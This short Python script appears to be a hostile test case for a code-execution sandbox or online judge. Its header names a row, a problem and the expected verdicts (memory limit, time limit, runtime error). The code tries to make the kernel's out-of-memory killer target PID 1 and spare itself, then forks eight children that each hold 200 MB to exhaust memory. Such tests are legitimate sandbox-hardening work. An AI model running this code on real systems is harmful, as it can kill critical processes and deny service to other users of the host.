# row: H6
# attack: makes the kernel's choice fall on others when memory ends
# problem: split
# verdict: memory_limit time_limit runtime_error
# wall: 10
# cpu: 5
import os, time
for pid in ("1", "self"):
    try:
        with open(f"/proc/{pid}/oom_score_adj", "w") as file:
            file.write("1000" if pid == "1" else "-1000")
    except OSError:
        pass
for _ in range(8):
    if os.fork() == 0:
        try:
            with open("/proc/self/oom_score_adj", "w") as file:
                file.write("0")
        except OSError:
            pass
        data = bytearray(b"x" * (200 << 20))
        time.sleep(30)
        os._exit(0)
os.wait()
